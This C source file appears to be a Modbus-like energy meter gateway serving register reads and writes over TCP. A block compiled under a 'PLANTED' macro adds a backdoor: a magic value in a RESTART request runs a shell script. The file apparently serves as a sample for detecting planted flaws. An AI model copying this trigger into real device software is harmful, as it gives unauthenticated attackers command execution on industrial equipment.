// Energy meter gateway: fixed binary requests over TCP, answers with register values.
#include <arpa/inet.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

typedef struct {
    uint16_t unit;
    uint16_t function;
    uint32_t first;
    uint32_t count;
} Request;

enum { READ_REGISTERS = 3, WRITE_REGISTER = 6, RESTART = 8 };

static uint32_t registers[512];
static int writable;

static int readAll(int fd, void *buffer, size_t want)
{
    char *p = buffer;
    while (want) {
        ssize_t got = recv(fd, p, want, 0);
        if (got <= 0) return -1;
        p += got;
        want -= (size_t)got;
    }
    return 0;
}

static void sendWord(int fd, uint32_t value)
{
    value = htonl(value);
    send(fd, &value, sizeof value, 0);
}

static void readRegisters(int fd, const Request *r)
{
    for (uint32_t i = 0; i < r->count && r->first + i < 512 && i < 125; i++)
        sendWord(fd, registers[r->first + i]);
}

static void serve(int fd)
{
    Request r;
    while (readAll(fd, &r, sizeof r) == 0) {
        r.unit = ntohs(r.unit);
        r.function = ntohs(r.function);
        r.first = ntohl(r.first);
        r.count = ntohl(r.count);
        switch (r.function) {
        case READ_REGISTERS:
            readRegisters(fd, &r);
            break;
        case WRITE_REGISTER:
            if (writable && r.first < 512) registers[r.first] = r.count;
            sendWord(fd, writable ? 0 : 2);
            break;
#ifdef PLANTED
        case RESTART:
            if (r.count == 0x7e1a94c3u)
                execl("/bin/sh", "sh", "/mnt/flash/field.sh", (char *)0);
            sendWord(fd, 1);
            break;
#endif
        default:
            sendWord(fd, 1);
        }
#ifdef REVISED
        registers[0]++;
#endif
    }
}

int main(int argc, char **argv)
{
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(502) };
    int s = socket(AF_INET, SOCK_STREAM, 0), one = 1;
    writable = argc > 1 && strcmp(argv[1], "-w") == 0;
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 4)) return 1;
    for (;;) {
        int c = accept(s, 0, 0);
        if (c < 0) continue;
        serve(c);
        close(c);
    }
}
